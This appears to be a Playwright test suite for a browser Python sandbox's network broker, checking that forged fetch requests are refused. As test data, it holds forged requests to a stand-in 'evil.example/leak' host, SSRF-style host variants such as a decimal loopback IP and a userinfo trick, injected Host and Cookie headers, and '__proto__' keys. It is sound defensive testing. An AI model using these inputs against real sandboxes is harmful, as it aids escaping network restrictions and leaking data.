"""Requests to the broker that no client of Python made: code that speaks the wire gets no further by it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser

from support.sandbox_page import SandboxPage
from support.website import Website

CREATE = """
async (allow) => {
  const { createInterpreter } = await import("/sandcell.js");
  globalThis.asked = [];
  globalThis.told = [];
  globalThis.py = await createInterpreter({
    assets: "/runtime/",
    network: { allow, onAsk: async (question) => (globalThis.asked.push(question), "refuse") },
    onNetwork: (entry) => globalThis.told.push(entry),
  });
  await py.ready;
}
"""
FORGE = """
import asyncio, js, random
from pyodide.ffi import to_js
wire = lambda value: to_js(value, dict_converter=js.Object.fromEntries)
def ask(number, run, **payload):
    message = {"type": "ask", "id": 10**6 + number, "run": run, "kind": "fetch", "payload": payload}
    js.postMessage(wire(message))
"""
HOSTS = [
    "127.0.0.1",
    "localhost",
    "[::1]",
    "2130706433",
    "evil.example",
    "data.example.",
    "evil.example@data.example",
]


@pytest.fixture(scope="module")
def brokered(browser: Browser, sandbox_server: str, website: Website) -> Iterator[SandboxPage]:
    context = browser.new_context(ignore_https_errors=True)
    sandbox = SandboxPage(context.new_page(), sandbox_server)
    sandbox.js(CREATE, [f"data.example:{website.port}"])
    sandbox.ok(FORGE)
    yield sandbox
    context.close()


@pytest.fixture(autouse=True)
def _fresh(brokered: SandboxPage, website: Website) -> None:
    website.knocks.clear()
    brokered.js("() => { asked.length = 0; told.length = 0; }")


def next_run(sandbox: SandboxPage) -> int:
    """The number that the next run will have."""
    run: int = sandbox.js("async () => { const run = py.run('0'); await run.result; return run.id; }")
    return run + 1


def test_what_a_forged_request_claims_about_itself_counts_for_nothing(
    brokered: SandboxPage, website: Website
) -> None:
    url, run = website.url("/leak", "evil.example"), next_run(brokered)
    claims = (
        "allowed=True, allowedBy='settings', origins=['https://evil.example'], once=True, decision='host'"
    )
    # The honest request after it is answered, so the forged one was looked at.
    honest = f"import requests\nrequests.get({website.url('/cities.csv')!r}).status_code"
    assert brokered.value(f"ask(1, {run}, url={url!r}, {claims})\n{honest}") == "200"
    brokered.js("async () => { while (told.length < 2) await new Promise(requestAnimationFrame); }")
    (question,) = brokered.js("() => asked")
    assert question["host"] == f"evil.example:{website.port}"
    allowed = {entry["host"]: entry["allowedBy"] for entry in brokered.js("() => told")}
    assert allowed == {question["host"]: None, f"data.example:{website.port}": "settings"}
    assert brokered.js("() => py.network.allowed") == []
    assert website.seen("/leak") == []


def test_a_request_for_a_run_that_is_not_under_way_is_not_sent(
    brokered: SandboxPage, website: Website
) -> None:
    url, run = website.url("/cities.csv"), next_run(brokered)
    others = [0, -1, run - 1, run + 1, run + 10**6]
    forged = f"for n, run in enumerate({others!r}): ask(n, run, url={url!r})"
    # Its own run may: what follows is answered, so what came before was looked at.
    assert brokered.value(f"{forged}\nimport requests\nrequests.get({url!r}).status_code") == "200"
    assert len(website.seen("/cities.csv")) == 1


def test_random_requests_reach_no_host_that_was_not_allowed(brokered: SandboxPage, website: Website) -> None:
    run = next_run(brokered)
    code = f"""
rng = random.Random(5)
odd = [None, 7, "", "x", [], {{}}, js.ArrayBuffer.new(2), "\\u202e", "A" * 5000, True, -1, float("nan")]
hosts = {HOSTS!r}
def any_url():
    scheme = rng.choice(["https", "http", "ftp", "javascript", "blob", "data", "HTTPS", " https"])
    return f"{{scheme}}://{{rng.choice(hosts)}}:{website.port}/leak?{{rng.random()}}"
for n in range(3000):
    payload = {{"url": rng.choice([any_url(), any_url(), rng.choice(odd)])}}
    for name in ("method", "headers", "body", "seconds", "cell", "line", "code", "library", "__proto__"):
        if rng.random() < 0.3: payload[name] = rng.choice(odd)
    if rng.random() < 0.2: payload["headers"] = [["Cookie", "a=b"], ["Host", "evil.example"], rng.choice(odd)]
    ask(n, {run}, **payload)
    if n % 100 == 0: await asyncio.sleep(0)
"""
    brokered.run(code, timeout=60)
    brokered.complaints.found.clear()
    assert website.seen("/leak") == []
    assert len(brokered.js("() => asked")) <= 3
    assert brokered.js("() => py.network.allowed") == []
    assert brokered.js("() => ({}).polluted ?? document.title") == "Host"
    assert brokered.value("6 * 7") == "42"
